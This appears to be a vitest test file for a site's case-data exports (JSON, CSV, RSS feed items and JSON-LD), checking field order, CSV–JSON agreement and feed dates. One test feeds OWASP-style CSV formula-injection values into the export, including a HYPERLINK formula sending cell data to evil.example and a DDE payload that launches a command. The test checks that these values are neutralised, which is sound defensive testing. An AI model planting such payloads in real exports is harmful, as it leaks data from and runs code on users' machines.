/** The data files and feed from the real cases as the pages get them, the CSV read back by csv-parse. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { serialiseJsonLd } from '../../src/lib/cite/structured-data.ts';
import { CASE_RECORD_FIELDS, csvColumnMeanings, CSV_COLUMNS, toCaseRecord, toCasesCsv, toCasesJson, toFeedItem } from '../../src/lib/data/export.ts';
import { readRealCases } from '../support/case-pipeline';

const cases = await readRealCases();
const readCsv = (csv: string): Record<string, string>[] => parse(csv, { columns: true, record_delimiter: '\r\n' });

describe('/cases.json and /cases.csv', () => {
  it('hold every published field, in order, each documented; source null where the document gives none', () => {
    const records = JSON.parse(toCasesJson(cases)).cases;
    expect(records.map((record: { slug: string }) => record.slug)).toEqual(cases.map((entry) => entry.id));
    for (const record of records) expect(Object.keys(record)).toEqual(Object.keys(CASE_RECORD_FIELDS));
    // The fields SITE.md promises: more may be added, none renamed or dropped.
    expect(Object.keys(records[0])).toEqual(expect.arrayContaining(['slug', 'url', 'title', 'subtitle', 'category', 'categoryLabel', 'order', 'place', 'summary', 'source', 'keyFigures']));
    expect(Object.keys(records[0].keyFigures[0])).toEqual(expect.arrayContaining(['value', 'label', 'quote']));
    expect(records.find((record: { category: string }) => record.category === 'rural').source).toBeNull();
    const meanings = csvColumnMeanings();
    expect(meanings.map(([header]) => header)).toEqual(CSV_COLUMNS.map(([header]) => header));
    for (const [header, meaning] of [...meanings, ...Object.entries(CASE_RECORD_FIELDS)]) expect(meaning?.trim(), header).toBeTruthy();
  });

  it('agree: one CSV row a case, every JSON field in a column or its nested ones, lists one item a line', () => {
    const rows = readCsv(toCasesCsv(cases));
    const headers = CSV_COLUMNS.map(([header]) => header);
    for (const field of Object.keys(CASE_RECORD_FIELDS)) expect(headers.some((header) => header === field || header.startsWith(`${field}.`)), field).toBe(true);
    rows.forEach((row, index) => {
      const record = toCaseRecord(cases[index]);
      expect(row.slug).toBe(record.slug);
      expect(row['source.url']).toBe(record.source?.url ?? '');
      expect(row['keyFigures.quote'].split('\n')).toEqual(record.keyFigures.map((figure) => figure.quote));
      expect(row.themes.split('\n')).toEqual(record.themes);
    });
  });

  // OWASP's formula-starting characters, each at the head of a value an editor could write.
  it.each(['=HYPERLINK("https://evil.example/?d="&A1,"Click me")', '+1+2', '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+2', '\r=1+2'])(
    'neutralise a cell a spreadsheet would run as a formula, and keep the JSON exact: %j',
    (value) => {
      const entry = { ...cases[0], data: { ...cases[0].data, title: value, summary: value } };
      const [row] = readCsv(toCasesCsv([entry]));
      expect([row.title, row.summary]).toEqual([`'${value}`, `'${value}`]);
      expect(JSON.parse(toCasesJson([entry])).cases[0].title).toBe(value);
    },
  );
});

describe('the feed and JSON-LD', () => {
  const bySlug = (slug: string) => cases.find((entry) => entry.id === slug)!;

  it('date a feed item by its source, as precisely as it is known, and name its category', () => {
    const item = toFeedItem(bySlug('baotou'));
    expect([item.link, item.categories?.[0], (item.pubDate as Date).toISOString(), item.customData]).toEqual([
      '/cases/baotou/',
      'Urban',
      '2025-05-16T00:00:00.000Z',
      '<dc:date>2025-05-16</dc:date>',
    ]);
    // A month: no pubDate, which would name a day. No source: no date at all.
    const dates = (slug: string) => [toFeedItem(bySlug(slug)).pubDate, toFeedItem(bySlug(slug)).customData];
    expect(dates('state-grid-hunan')).toEqual([undefined, '<dc:date>2024-10</dc:date>']);
    expect(dates('fangzi-district')).toEqual([undefined, undefined]);
  });

  it('keep JSON-LD inside its script element, whatever the text', () => {
    expect(serialiseJsonLd({ a: '</script><b>' })).toBe('{"a":"\\u003c/script>\\u003cb>"}');
  });
});
